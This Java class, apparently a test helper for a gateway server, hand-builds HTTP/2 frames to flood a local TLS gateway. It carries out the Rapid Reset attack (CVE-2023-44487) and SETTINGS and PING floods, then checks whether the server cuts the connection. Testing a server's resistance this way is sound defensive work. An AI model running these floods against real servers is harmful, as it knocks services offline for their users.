package app.latent.gateway;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLSocket;

/** A client that means harm: HTTP/2 frames as RFC 9113 defines them, written by hand. */
final class Http2Frames implements AutoCloseable {

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int CANCEL = 8;
    private static final int END_HEADERS = 4;
    private static final int END_STREAM = 1;

    private final SSLSocket socket;
    private final OutputStream out;
    private final byte[] request;
    private final CountDownLatch ended = new CountDownLatch(1);

    private Http2Frames(SSLSocket socket, String authority) throws IOException {
        this.socket = socket;
        this.out = socket.getOutputStream();
        this.request = headers(authority);
        Thread.ofVirtual().start(this::readAll);
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
    }

    static Http2Frames connect(TlsGateway gateway) throws Exception {
        var socket = (SSLSocket) gateway.trusting().getSocketFactory().createSocket("127.0.0.1", gateway.port());
        var parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        socket.setSoTimeout(20_000);
        socket.startHandshake();
        return new Http2Frames(socket, "127.0.0.1:" + gateway.port());
    }

    /** HPACK (RFC 7541) without compression: :method GET and :scheme https from the static table, :path /, :authority as a literal. */
    private static byte[] headers(String authority) {
        var block = new ByteArrayOutputStream();
        block.write(0x82);
        block.write(0x87);
        block.write(0x84);
        block.write(0x01);
        block.write(authority.length());
        block.writeBytes(authority.getBytes(StandardCharsets.US_ASCII));
        return block.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) throws IOException {
        var bytes = new ByteArrayOutputStream();
        var data = new DataOutputStream(bytes);
        data.writeByte(payload.length >> 16);
        data.writeShort(payload.length);
        data.writeByte(type);
        data.writeByte(flags);
        data.writeInt(stream);
        data.write(payload);
        return bytes.toByteArray();
    }

    private void readAll() {
        try {
            var in = new DataInputStream(socket.getInputStream());
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.skipNBytes(5);
                in.skipNBytes(length);
                if (type == GOAWAY) ended.countDown();
            }
        } catch (IOException e) {
            ended.countDown();
        }
    }

    private interface Attack {
        byte[] frames(int i) throws IOException;
    }

    /** Tells whether the server has had enough. */
    private boolean flood(int most, Attack attack) throws InterruptedException {
        try {
            for (int i = 0; i < most && ended.getCount() > 0; i++) out.write(attack.frames(i));
        } catch (IOException e) {
            return true;
        }
        return ended.await(5, TimeUnit.SECONDS);
    }

    /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
    boolean resets(int most) throws InterruptedException {
        return flood(most, i -> {
            var both = new ByteArrayOutputStream();
            int stream = 2 * i + 1;
            both.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, request));
            both.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
            return both.toByteArray();
        });
    }

    boolean settings(int most) throws InterruptedException {
        return flood(most, _ -> frame(SETTINGS, 0, 0, new byte[0]));
    }

    boolean pings(int most) throws InterruptedException {
        return flood(most, _ -> frame(PING, 0, 0, new byte[8]));
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
